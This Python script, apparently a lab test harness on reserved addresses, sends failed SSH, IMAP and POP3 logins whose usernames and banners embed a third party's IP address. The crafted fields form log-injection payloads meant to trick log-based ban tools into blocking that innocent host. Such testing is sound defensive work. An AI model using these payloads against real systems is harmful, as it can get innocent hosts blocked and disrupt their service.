"""Attacks the servers at 192.0.2.1 from 203.0.113.9, with names that name 198.51.100.7."""

import os
import socket
import subprocess
import sys
import time

SERVER = "192.0.2.1"
ATTACKER = "203.0.113.9"
NAMES = [
    "root", "anna", "nobody-here", "denied", "a b",
    "x from 198.51.100.7 port 22", "x from 198.51.100.7 port 22 ssh2", "x 198.51.100.7 port 22",
    "x 198.51.100.7 port 22 [preauth]", "from 198.51.100.7", "198.51.100.7", "@", "x' from 198.51.100.7",
]
IMAP_NAMES = [
    "anna", "nobody-here", "rip=198.51.100.7, lip=192.0.2.1", "x>, method=PLAIN, rip=198.51.100.7, lip=192.0.2.1",
    "x,198.51.100.7,sasl:plain)<a>: y", "198.51.100.7", "x@198.51.100.7", "a b", "", "x\ty",
]


def connect(port):
    link = socket.socket()
    link.settimeout(8)
    link.bind((ATTACKER, 0))
    link.connect((SERVER, port))
    return link


def ready():
    for port in (22, 143, 110):
        connect(port).close()


def raw(port, *texts):
    """Sends bytes and leaves."""
    try:
        link = connect(port)
        for text in texts:
            link.sendall(text)
            time.sleep(0.2)
        link.recv(1000)
        link.close()
    except OSError:
        pass


def ssh(name, *options):
    with open("/tmp/askpass", "w") as script:
        script.write("#!/bin/sh\necho wrong\n")
    os.chmod("/tmp/askpass", 0o755)
    environment = dict(os.environ, SSH_ASKPASS="/tmp/askpass", SSH_ASKPASS_REQUIRE="force", HOME="/root")
    command = [
        "ssh", "-b", ATTACKER, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
        "-o", "User=" + name, *options, SERVER, "true",
    ]
    try:
        subprocess.run(command, env=environment, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=20, check=False)
    except subprocess.TimeoutExpired:
        pass


def imap(name):
    quoted = name.replace("\\", "\\\\").replace('"', '\\"').encode()
    raw(143, b'a login "' + quoted + b'" wrong\r\n', b"b logout\r\n")
    raw(110, b"user " + name.encode() + b"\r\n", b"pass wrong\r\n", b"quit\r\n")


def attack():
    for name in IMAP_NAMES:
        imap(name)
    raw(143, b"GET / HTTP/1.0\r\n\r\n")
    raw(143)
    raw(22, b"GET / HTTP/1.0\r\n\r\n")
    raw(22, b"SSH-1.0-x from 198.51.100.7 port 22\r\n")
    raw(22, b"SSH-2.0-x\r\n", b"\0\0\0\x10 garbage from 198.51.100.7")
    raw(22, b"x from 198.51.100.7 port 22\r\n")
    for name in NAMES:
        # Penalties would drop the next connection; some of that is wanted.
        time.sleep(2.2 if name != "a b" else 0)
        ssh(name, "-o", "NumberOfPasswordPrompts=3")
    time.sleep(3)
    ssh("anna", "-o", "KexAlgorithms=diffie-hellman-group14-sha1")
    time.sleep(3)
    ssh("anna", "-o", "HostKeyAlgorithms=ssh-rsa")
    # Too slow to log in.
    link = connect(22)
    time.sleep(6)
    link.close()
    time.sleep(1)


{"ready": ready, "attack": attack}[sys.argv[1]]()
